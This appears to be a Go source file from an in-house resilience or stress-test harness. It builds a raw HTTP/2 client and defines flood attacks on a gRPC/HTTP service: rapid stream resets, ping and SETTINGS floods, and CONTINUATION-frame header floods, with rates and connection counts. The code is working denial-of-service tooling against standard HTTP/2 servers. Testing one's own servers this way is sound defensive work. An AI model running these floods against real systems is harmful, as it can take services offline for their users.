package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"strconv"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is a client of HTTP/2 that does as it likes.
type h2 struct {
	*http2.Framer
	block  bytes.Buffer
	enc    *hpack.Encoder
	stream uint32
}

// newH2 begins HTTP/2; nil: the server does not want to.
func newH2(c *conn) *h2 {
	h := &h2{Framer: http2.NewFramer(c, c)}
	h.enc = hpack.NewEncoder(&h.block)
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return nil
	}
	if h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}) != nil {
		return nil
	}
	return h
}

// Methods that want a proof, and one that does not.
const (
	methodStatus = "/leasehold.v1.ClusterService/GetStatus"
	methodHealth = "/grpc.health.v1.Health/Check"
)

// headers is the block of a call, with more fields.
func (h *h2) headers(method string, more ...[2]string) []byte {
	h.block.Reset()
	for _, f := range append([][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"},
	}, more...) {
		_ = h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a bytes.Buffer takes everything
	}
	return h.block.Bytes()
}

// open begins a call, whose message is still to come.
func (h *h2) open(method string) error {
	if h.stream == 0 {
		h.stream = 1
	} else {
		h.stream += 2
	}
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream, BlockFragment: h.headers(method), EndHeaders: true})
}

// flooded does something on an HTTP/2 connection again and again.
func flooded(perSecond int, do func(h *h2) error) func(context.Context, *conn) {
	return func(ctx context.Context, c *conn) {
		if h := newH2(c); h != nil {
			c.again(ctx, perSecond, func() error { return do(h) })
		}
	}
}

// floods are more of what is allowed than anybody has a reason for.
func floods(cfg Config) []trouble {
	reset := func(h *h2) error {
		if err := h.open(methodStatus); err != nil {
			return err
		}
		return h.WriteRSTStream(h.stream, http2.ErrCodeCancel)
	}
	ping := func(h *h2) error { return h.WritePing(false, [8]byte{1}) }
	settings := func(h *h2) error {
		return h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	}
	fields := make([]byte, 0, 16<<10)
	for i := 0; len(fields) < 16<<10-64; i++ {
		fields = appendField(fields, "x-"+strconv.Itoa(i), "0123456789abcdef")
	}
	continued := func(h *h2) error {
		if h.stream == 0 {
			h.stream = 1
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.headers(methodHealth)})
		}
		return h.WriteContinuation(h.stream, false, fields)
	}
	return []trouble{
		{name: "resets of nobody", at: overGRPC, tls: client("h2"), keep: 1, perSecond: 5, do: flooded(1000, reset)},
		{name: "resets of a reader", at: overGRPC, tls: client("h2", cfg.Reader), keep: 1, perSecond: 5, do: flooded(1000, reset)},
		{name: "resets over HTTP", at: overHTTP, tls: client("h2", cfg.Reader), keep: 1, perSecond: 5, do: flooded(1000, reset)},
		{name: "pings", at: overHTTP2, tls: client("h2"), keep: 6, perSecond: 10, do: flooded(500, ping)},
		{name: "settings", at: overHTTP2, tls: client("h2"), keep: 6, perSecond: 10, do: flooded(500, settings)},
		{name: "continuations", at: overHTTP2, tls: client("h2"), keep: 6, perSecond: 10, do: flooded(200, continued)},
	}
}

// appendField is a header field that is kept in no table (RFC 7541, 6.2.2).
func appendField(b []byte, name, value string) []byte {
	b = append(b, 0, byte(len(name)))
	b = append(b, name...)
	b = append(b, byte(len(value)))
	return append(b, value...)
}

// message is the head of a gRPC message of so many bytes.
func message(size uint32) []byte { return binary.BigEndian.AppendUint32([]byte{0}, size) }
